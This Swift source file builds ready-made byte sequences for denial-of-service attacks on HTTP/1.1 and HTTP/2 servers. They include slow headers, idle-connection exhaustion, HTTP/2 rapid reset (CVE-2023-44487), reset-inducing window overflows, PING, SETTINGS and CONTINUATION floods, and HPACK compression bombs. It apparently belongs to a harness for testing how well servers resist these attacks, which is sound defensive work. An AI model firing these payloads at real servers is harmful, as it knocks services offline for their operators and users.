// Clients that mean harm: what each of them sends, as bytes made beforehand.
//
// Promises: each is bounded in its connections; what it sends again and again is small, so that one thread can send it as
// fast as a processor allows. The bytes are right but for what makes the attack.
// Must not know: sockets, who is attacked, what it costs there.

/// One kind of attack.
struct Attack {
    let name: String
    /// What is counted: "connections", "resets"….
    let unit: String
    let connections: Int
    /// Sent once on each connection.
    let opening: [UInt8]
    /// What that counts for.
    var openingUnits = 0
    /// Sent over and over; what it counts for. Empty: nothing more is sent.
    var block = Block()
    /// Between one turn over all connections and the next; 0: at once.
    var pauseMilliseconds: Int32 = 0
    /// False: what the server says is left in the socket.
    var isReading = true
    /// Hangs up (RST) as soon as something was answered, and comes again.
    var endsWhenAnswered = false

    /// Bytes to be sent, with the places of stream ids in them.
    struct Block {
        var bytes: [UInt8] = []
        var units = 0
        /// Where an id stands, and which stream of the block it is, from 0 on.
        var streams: [(offset: Int, index: UInt32)] = []
        var streamCount: UInt32 = 0

        /// As many streams as `count`, each with these frames (made with stream 0).
        init(count: UInt32, frames: [[UInt8]]) {
            for index in 0..<count {
                for frame in frames {
                    streams.append((bytes.count + 5, index))
                    bytes += frame
                }
            }
            units = Int(count)
            streamCount = count
        }

        /// The same bytes every time.
        init(_ bytes: [UInt8] = [], count: Int = 0) {
            for _ in 0..<count { self.bytes += bytes }
            units = count
        }

        /// Appends the bytes, for streams from `first` (odd) on.
        func append(firstStream first: UInt32, to output: inout [UInt8]) {
            let start = output.count
            output.append(contentsOf: bytes)
            for (offset, index) in streams {
                let stream = first + 2 * index
                for place in 0..<4 { output[start + offset + place] = UInt8(truncatingIfNeeded: stream >> UInt32(24 - 8 * place)) }
            }
        }
    }

    /// No attack: only its processor is taken, which on few processors costs something by itself.
    static let busyProcessor = Attack(name: "none, but a processor is busy", unit: "turns", connections: 0, opening: [])

    /// All of them, against a server that has a status at `path`.
    static func all(authority: String, path: String) -> [Attack] {
        http1(authority: authority, path: path) + http2(authority: authority, path: path)
    }

    private static func http1(authority: String, path: String) -> [Attack] {
        let head = "GET \(path) HTTP/1.1\r\nHost: \(authority)\r\n"
        let get = Array((head + "\r\n").utf8)
        return [
            Attack(
                name: "10,000 idle connections", unit: "connections", connections: 10_000, opening: [], openingUnits: 1,
                pauseMilliseconds: 500),
            Attack(
                name: "1,000 slow headers, a byte each 100 ms", unit: "bytes", connections: 1_000,
                opening: Array((head + "X-Slow: ").utf8), block: Block([0x61], count: 1), pauseMilliseconds: 100),
            Attack(
                name: "connection churn, 64 at once", unit: "connections", connections: 64, opening: get,
                openingUnits: 1, endsWhenAnswered: true),
            Attack(
                name: "64 pipelines of GETs that never read", unit: "requests", connections: 64, opening: [],
                block: Block(get, count: 100), isReading: false),
        ]
    }

    private static func http2(authority: String, path: String) -> [Attack] {
        let hello = HTTP2.preface + HTTP2.settings()
        let fields = [HPACK.get, HPACK.schemeHTTP] + HPACK.field(.authority, authority, .none) + HPACK.field(.path, path, .none)
        let whole = HTTP2.Flag.endHeaders | HTTP2.Flag.endStream
        let get = HTTP2.frame(.headers, flags: whole, fields)
        let unfinished = HTTP2.frame(.headers, flags: HTTP2.Flag.endStream, stream: 1, fields)
        let openStream = HTTP2.frame(
            .headers, flags: HTTP2.Flag.endHeaders, stream: 1,
            [HPACK.post, HPACK.schemeHTTP] + HPACK.field(.authority, authority, .none) + HPACK.field(.path, "/callback", .none))
        // More than a window may hold: an error of the stream alone (RFC 9113 §6.9.1).
        let overflow = HTTP2.frame(.windowUpdate, HTTP2.number(UInt32(HTTP2.windowBytesMax)))
        // One field of 4,000 bytes in the dynamic table, and then again and again by one byte each.
        let bomb = [HPACK.get, HPACK.schemeHTTP] + HPACK.field("x", String(repeating: "a", count: 4_000), .added)
            + (0..<4_000).flatMap { _ in HPACK.indexed(0) }
        return [
            Attack(
                name: "10,000 idle HTTP/2 connections", unit: "connections", connections: 10_000, opening: hello,
                openingUnits: 1, pauseMilliseconds: 500),
            Attack(
                name: "rapid reset (CVE-2023-44487)", unit: "resets", connections: 8, opening: hello,
                block: Block(count: 32, frames: [get, HTTP2.frame(.resetStream, HTTP2.number(HTTP2.cancel))])),
            Attack(
                name: "resets that the server is made to send (CVE-2025-8671)", unit: "resets", connections: 8,
                opening: hello, block: Block(count: 32, frames: [get, overflow])),
            Attack(
                name: "PING flood", unit: "frames", connections: 8, opening: hello,
                block: Block(HTTP2.frame(.ping, [UInt8](repeating: 0, count: 8)), count: 100)),
            Attack(
                name: "PING flood that never reads", unit: "frames", connections: 8, opening: hello,
                block: Block(HTTP2.frame(.ping, [UInt8](repeating: 0, count: 8)), count: 100), isReading: false),
            Attack(
                name: "SETTINGS flood", unit: "frames", connections: 8, opening: hello,
                block: Block(HTTP2.settings([(.initialWindowSize, 65_535)]), count: 100)),
            Attack(
                name: "CONTINUATION flood", unit: "frames", connections: 8, opening: hello + unfinished,
                block: Block(
                    HTTP2.frame(.continuation, stream: 1, HPACK.field("x-continued", "0123456789abcdef", .none)), count: 100)),
            Attack(
                name: "empty DATA flood", unit: "frames", connections: 8, opening: hello + openStream,
                block: Block(HTTP2.frame(.data, stream: 1), count: 100)),
            Attack(
                name: "header-compression bombs", unit: "requests", connections: 8, opening: hello,
                block: Block(count: 1, frames: [HTTP2.frame(.headers, flags: whole, bomb)])),
            Attack(
                name: "window starvation, 64 connections of 100 streams", unit: "streams", connections: 64,
                opening: HTTP2.preface + HTTP2.settings([(.initialWindowSize, 0)]) + starved(get), openingUnits: 100,
                pauseMilliseconds: 100),
        ]
    }

    /// A hundred requests on the first streams of a connection.
    private static func starved(_ get: [UInt8]) -> [UInt8] {
        var bytes: [UInt8] = []
        Block(count: 100, frames: [get]).append(firstStream: 1, to: &bytes)
        return bytes
    }
}
